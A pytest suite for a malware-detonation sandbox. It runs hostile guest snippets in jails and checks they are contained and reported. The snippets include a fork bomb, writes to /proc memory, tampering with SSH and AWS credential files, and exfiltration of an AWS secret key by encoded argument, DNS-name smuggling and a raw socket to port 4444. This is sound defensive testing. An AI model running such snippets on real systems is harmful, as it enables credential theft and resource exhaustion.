"""What stays denied and bounded where a load may do much: under `detonate`, in each jail."""

from __future__ import annotations

import ast
import socket
import threading
from pathlib import Path
from typing import Any

import pytest
from guest.detonation import require_no_network

from sandbox.facts import Report, Verdict
from tests.jail.conftest import Evaluate, parametrize_jails

pytestmark = pytest.mark.jail

IN_EVERY_JAIL = [
    "a_fork_bomb_ends_at_the_limit",
    "files_that_are_none_do_not_make_pid_1_wait",
    "nothing_leaves_while_everything_is_answered",
    "only_writing_is_free_not_the_files_of_pid_1",
    "names_and_terminals_are_bounded",
    "code_is_not_written_by_way_of_proc",
]


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    parametrize_jails(metafunc, IN_EVERY_JAIL)


_LIBC = """
import ctypes, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    done = libc.syscall(number, *args)
    return "done" if done >= 0 else errno.errorcode[ctypes.get_errno()]
"""


def printed(report: Report) -> Any:
    texts = {stream: text for stream, text, _ in report.dynamic.printed}
    assert "loader stdout" in texts, texts
    return ast.literal_eval(texts["loader stdout"].strip())


def detonated(report_of: Evaluate, source: str, **options: Any) -> Report:
    report = report_of(source, policy="detonate", timeout=60, **options)
    assert report.dynamic.ended
    assert report.dynamic.observer_outlived_loader
    assert report.verdict == Verdict.MALICIOUS
    return report


def test_a_process_that_shares_more_than_a_process_does_is_not_started(report_of: Evaluate) -> None:
    """CLONE_VM, CLONE_FILES, CLONE_PARENT, CLONE_UNTRACED, CLONE_NEWUSER: each would be taken for something else."""
    source = _LIBC + "print([call(56, 17 | flag, 0, 0, 0, 0) for flag in (0x100, 0x400, 0x8000, 0x800000, 0x10000000)])"
    assert set(printed(detonated(report_of, source))) <= {"EAGAIN", "EPERM"}


def test_options_that_would_make_pid_1_wait_are_refused(report_of: Evaluate) -> None:
    """SO_ATTACH_FILTER, SO_LINGER, TCP_MD5SIG, TCP_FASTOPEN_CONNECT."""
    report = detonated(
        report_of,
        _LIBC
        + """
peer = socket.socket()
tried = []
for level, name, value in ((1, 26, bytes(16)), (1, 13, b"\\1\\0\\0\\0\\xff\\0\\0\\0"), (6, 14, bytes(216)), (6, 30, 1)):
    try:
        peer.setsockopt(level, name, value)
        tried.append("done")
    except OSError as error:
        tried.append(errno.errorcode[error.errno])
peer.setsockopt(6, 1, 1)
peer.connect(("203.0.113.9", 80))
print(tried)
""",
    )
    assert printed(report) == ["EPERM"] * 4
    assert report.dynamic.counts["other.denied"] == 4
    assert [talk.port for talk in report.dynamic.conversations] == [80]


def test_a_flood_of_connections_and_names_is_bounded_and_counted(report_of: Evaluate) -> None:
    report = detonated(
        report_of,
        """
import socket
kept, refused = [], 0
for at in range(3000):
    peer = socket.socket()
    try:
        peer.connect(("203.0.113.%d" % (at % 250), 1 + at % 5000))
    except OSError:
        refused += 1
    (kept if len(kept) < 80 else []).append(peer)
print(refused)
""",
    )
    assert report.dynamic.counts["net.connect"] == 3000
    assert len(report.dynamic.conversations) <= 800
    assert report.dynamic.dropped
    assert not report.completeness.complete


def test_a_fork_bomb_ends_at_the_limit(report_of: Evaluate) -> None:
    report = report_of(
        """
import os, time
started = 0
try:
    while started < 1000:
        if os.fork() == 0:
            time.sleep(0)
            os.pause() if hasattr(os, "pause") else __import__("signal").pause()
        started += 1
except OSError as error:
    print((started, error.errno), flush=True)
""",
        policy="detonate",
        timeout=150,
        linger=0.5,
        memory=4
        << 30,  # so that it is the tasks that run out: what processes share is counted for each where none tells
    )
    started, error = printed(report)
    assert started < 140
    assert error == 11
    assert report.dynamic.ended
    assert report.verdict in (Verdict.MALICIOUS, Verdict.SUSPICIOUS)


def test_files_that_are_none_do_not_make_pid_1_wait(report_of: Evaluate) -> None:
    report = detonated(
        report_of,
        """
import os, socket
os.mkfifo("/tmp/fifo")
os.unlink("/tmp/fifo")
os.mkfifo("/tmp/kept")
os.symlink("/proc/1/environ", "/tmp/link")
os.symlink("/dev/zero", "/tmp/zero")
os.unlink("/tmp/link")
with open("/tmp/sparse", "wb") as file:
    file.truncate(60 << 20)
with open("/tmp/closed", "w") as file:
    file.write("secret")
os.chmod("/tmp/closed", 0)
os.system("/tmp/fifo; /tmp/zero; /tmp/link")
print("'done'")
""",
    )
    assert printed(report) == "done"
    kept = {artifact.path: (artifact.size, artifact.content[:8]) for artifact in report.dynamic.artifacts}
    assert kept["/tmp/sparse"] == (60 << 20, bytes(8))
    assert kept["/tmp/closed"] == (6, b"secret")
    assert kept.keys() == {"/tmp/sparse", "/tmp/closed"}


def test_what_a_program_became_is_told_by_the_kernel(report_of: Evaluate) -> None:
    """What a program calls itself is its own word; what it is, and how it ended, is the kernel's."""
    report = detonated(report_of, """import os; os.system("bash -c 'exec -a innocent sh -c \\"exit 3\\"'")""")
    images = {
        event.detail["argv"]: event.detail["path"] for event in report.dynamic.events if event.kind == "process.image"
    }
    assert images["innocent -c 'exit 3'"].startswith(("/usr/bin/", "/programs/"))
    assert images["innocent -c 'exit 3'"].endswith("sh")
    assert "3" in {event.detail["value"] for event in report.dynamic.events if event.kind == "process.exit"}


def test_nothing_leaves_while_everything_is_answered(report_of: Evaluate) -> None:
    """A listener on the host's loopback is what a jail without a namespace of its own would reach."""
    heard: list[bytes] = []
    with socket.socket() as listener, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        datagrams.bind(("127.0.0.1", 0))
        ports = listener.getsockname()[1], datagrams.getsockname()[1]

        def listen() -> None:
            listener.settimeout(0.2)
            while not done.is_set():
                try:
                    heard.append(listener.accept()[0].recv(100))
                except TimeoutError:
                    continue

        done = threading.Event()
        thread = threading.Thread(target=listen)
        thread.start()
        try:
            report = detonated(
                report_of,
                f"""
import socket
for address, port in (("127.0.0.1", {ports[0]}), ("203.0.113.9", 80)):
    peer = socket.create_connection((address, port), timeout=5)
    peer.sendall(b"from the jail")
    peer.close()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = udp.sendto(b"from the jail", ("127.0.0.1", {ports[1]}))
rows = [line.split(":") for line in open("/proc/net/dev").read().splitlines()[2:]]
print((sent, [name.strip() for name, numbers in rows if name.strip() != "lo" and any(map(int, numbers.split()))]))
""",
            )
        finally:
            done.set()
            thread.join()
        datagrams.setblocking(False)
        with pytest.raises(BlockingIOError):
            datagrams.recv(100)
    assert heard == []
    assert printed(report) == (13, [])  # no interface but the loopback has counted anything
    talks = {(talk.address, talk.port): talk.sent for talk in report.dynamic.conversations}
    assert talks[("127.0.0.1", ports[0])] == talks[("127.0.0.1", ports[1])] == b"from the jail"


def test_a_jail_with_a_network_answers_nothing() -> None:
    require_no_network(["lo"])
    up = [name for _, name in socket.if_nameindex() if name != "lo" and _is_up(name)]
    if not up:
        pytest.fail("this machine has no interface to try it on")
    with pytest.raises(SystemExit, match=f"network interface {up[0]}"):
        require_no_network(["lo", up[0]])


def _is_up(name: str) -> bool:
    return bool(int(Path(f"/sys/class/net/{name}/flags").read_text(encoding="ascii"), 16) & 1)


def test_only_writing_is_free_not_the_files_of_pid_1(report_of: Evaluate) -> None:
    report = detonated(
        report_of,
        """
import os
tried = []
for path in ("/proc/1/mem", "/proc/1/fd/1", "/proc/sys/kernel/core_pattern", "/model/x", "/code/wire.py", "/bin/x"):
    try:
        open(path, "r+b" if os.path.exists(path) else "wb")
        tried.append(path)
    except OSError:
        pass
print(tried)
""",
    )
    assert printed(report) == []
    assert any(event.kind == "watch.tamper" for event in report.dynamic.events)


def test_what_a_file_held_before_it_was_overwritten_is_kept(report_of: Evaluate) -> None:
    report = detonated(
        report_of,
        """
import errno, os
def write(path, text):
    with open(path, "w") as file:
        file.write(text)
write("/tmp/s.sh", "echo one\\n")
os.system("sh /tmp/s.sh")
write("/tmp/s.sh", "echo two\\n")
write("/tmp/t.sh", "echo three\\n")
write("/tmp/u.sh", "echo four\\n")
os.rename("/tmp/u.sh", "/tmp/t.sh")
os.truncate("/tmp/t.sh", 0)
try:
    os.open("/tmp", os.O_TMPFILE | os.O_RDWR)
except OSError as error:
    print(repr(errno.errorcode[error.errno]), flush=True)
""",
    )
    kept = [(artifact.path, artifact.why, artifact.content) for artifact in report.dynamic.artifacts]
    assert ("/tmp/s.sh", "run", b"echo one\n") in kept
    assert ("/tmp/s.sh", "left", b"echo two\n") in kept
    assert ("/tmp/t.sh", "overwritten", b"echo three\n") in kept
    assert ("/tmp/t.sh", "overwritten", b"echo four\n") in kept
    texts = {stream: text for stream, text, _ in report.dynamic.printed}
    assert texts["loader stdout"].splitlines() == ["one", "'ENOTSUP'"]


_STOLEN = """
import base64, gzip, os, socket, subprocess
key = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
"""


@pytest.mark.parametrize(
    ("kind", "source"),
    [
        (
            "decoy.passed",
            'subprocess.run(["true", base64.b64encode(gzip.compress(key)).decode()])',
        ),
        (
            "decoy.sent",
            """
for at, part in enumerate(key.hex()[start : start + 10] for start in range(0, 2 * len(key), 10)):
    try:
        socket.getaddrinfo(f"{at}.{part}.t.example.invalid", 80)
    except OSError:
        pass
""",
        ),
        (
            "decoy.sent",
            """
peer = socket.create_connection(("203.0.113.9", 4444))
peer.sendall(b"A" * 200_000 + key)
peer.close()
""",
        ),
    ],
    ids=["as an argument, packed", "in names, with a counter", "behind much else"],
)
def test_a_secret_that_leaves_is_found(kind: str, source: str, report_of: Evaluate) -> None:
    report = detonated(report_of, _STOLEN + source)
    told = [event.detail["name"] for event in report.dynamic.events if event.kind == kind]
    assert "AWS secret key" in told, [event for event in report.dynamic.events if event.kind == "finder.gap"]


def test_more_than_is_looked_through_is_said(report_of: Evaluate) -> None:
    report = detonated(report_of, "open('/tmp/big', 'wb').write(bytes(1 << 20)); __import__('os').system('true')")
    assert "event.finder" in {finding.rule for finding in report.findings}
    assert not report.completeness.complete


def test_what_can_not_be_loaded_is_judged_as_ever(evaluated: Evaluate, tmp_path: Path) -> None:
    model = tmp_path / "model.gguf"
    model.write_bytes(b"GGUF\3\0\0\0\0")
    assert evaluated(model, policy="detonate").verdict == evaluated(model).verdict == Verdict.INCONCLUSIVE


def test_neither_depth_nor_pipes_under_way_take_pid_1_s_last_word(report_of: Evaluate) -> None:
    """Folders deeper than Python recurses; descriptors in a queue that nobody will ever read."""
    report = detonated(
        report_of,
        """
import array, os, socket
os.chdir("/tmp")
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
one, other = socket.socketpair()
try:
    rights = array.array("i", [1, 2, 3, one.fileno(), other.fileno()])
    one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
except OSError:
    pass
print("'done'", flush=True)
""",
    )
    assert printed(report) == "done"


def test_names_and_terminals_are_bounded(report_of: Evaluate) -> None:
    report = detonated(
        report_of,
        """
import errno, os
made = 0
try:
    while made < 6000:
        os.close(os.open(f"/tmp/{made}", os.O_CREAT | os.O_WRONLY))
        made += 1
except OSError as error:
    names = errno.errorcode[error.errno]
terminals = 0
try:
    while terminals < 40:
        os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
        terminals += 1
except OSError:
    pass
print((made <= 4096, names, terminals <= 16), flush=True)
""",
    )
    assert printed(report) == (True, "ENOSPC", True)


def test_code_is_not_written_by_way_of_proc(report_of: Evaluate) -> None:
    report = detonated(
        report_of,
        """
import os
tried = []
for path in ("/proc/self/mem", "/proc/thread-self/mem", f"/proc/{os.getpid()}/task/{os.getpid()}/mem"):
    try:
        os.open(path, os.O_RDWR)
        tried.append(path)
    except OSError:
        pass
os.system("true")
print(tried, flush=True)
""",
    )
    assert printed(report) == []
    assert report.dynamic.counts["memory.exec"] == 3


def test_what_was_planted_is_no_loot_where_it_stands(report_of: Evaluate) -> None:
    report = detonated(
        report_of,
        """
import os
os.chmod(os.path.expanduser("~/.aws/credentials"), 0o644)
os.rename(os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/key"))
os.system("true")
""",
    )
    written = {
        event.detail["path"]: event.detail["name"] for event in report.dynamic.events if event.kind == "decoy.written"
    }
    assert written == {"/home/user/key": "SSH private key"}


def test_out_of_time_what_was_said_and_left_is_told_all_the_same(report_of: Evaluate) -> None:
    report = report_of(
        """
import os, socket
peer = socket.create_connection(("203.0.113.9", 80))
peer.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
open("/tmp/left", "w").write("still here")
os.system("true")
while True:
    pass
""",
        policy="detonate",
        timeout=12,
    )
    assert report.dynamic.ended
    assert report.verdict == Verdict.MALICIOUS
    assert "event.limit.time" in {finding.rule for finding in report.findings}
    assert [talk.port for talk in report.dynamic.conversations] == [80]
    assert "/tmp/left" in {artifact.path for artifact in report.dynamic.artifacts}
